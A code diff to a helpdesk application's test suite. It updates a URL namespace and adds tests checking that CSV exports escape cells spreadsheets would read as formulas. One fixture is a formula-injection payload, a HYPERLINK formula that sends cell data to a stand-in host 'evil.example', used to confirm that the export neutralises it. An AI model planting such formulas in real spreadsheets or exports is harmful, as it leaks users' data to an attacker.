@@ -149,7 +149,7 @@ def test_file_count_limit_on_replies_web_and_api(client_for, customer_a, enginee
     )
     assert customer.status_code == 400 and "at most 3 files" in customer.content.decode()
     staff = client_for(engineer).post(
-        reverse("tickets:work_reply", args=[ticket.number]), {"body": "files", "attachments": files()}
+        reverse("workspace:work_reply", args=[ticket.number]), {"body": "files", "attachments": files()}
     )
     assert "at most 3 files" in staff.content.decode()
     api = _api(customer_a).post(
@@ -194,3 +194,26 @@ def test_text_over_djangos_field_limit_gives_a_page_saying_what_to_do(client_for
     response = client_for(customer_a).post(reverse("tickets:new"), _form(body="x" * (6 * 1024 * 1024)))
     assert response.status_code == 413
     assert "Attach a long log as a file" in response.content.decode()
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_csv_cells_that_spreadsheets_read_as_formulas_are_escaped(cell):
+    from helpdesk.csv_export import csv_safe
+
+    assert csv_safe(cell) == "'" + cell
+    assert csv_safe("Acme = Hosting") == "Acme = Hosting" and csv_safe(-5) == -5
+
+
+def test_report_export_escapes_an_organisation_named_like_a_formula(client_for, admin_user):
+    import csv as csv_module
+
+    from helpdesk.accounts.tests.factories import OrganisationFactory, UserFactory
+
+    organisation = OrganisationFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Click")')
+    customer = UserFactory(organisation=organisation)
+    services.ticket_create(requester=customer, data={"kind": "error", "subject": "s", "body": "b"})
+    response = client_for(admin_user).get(reverse("workspace:reports"), {"export": "pareto"})
+    rows = list(csv_module.reader(io.StringIO(response.content.decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + organisation.name in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
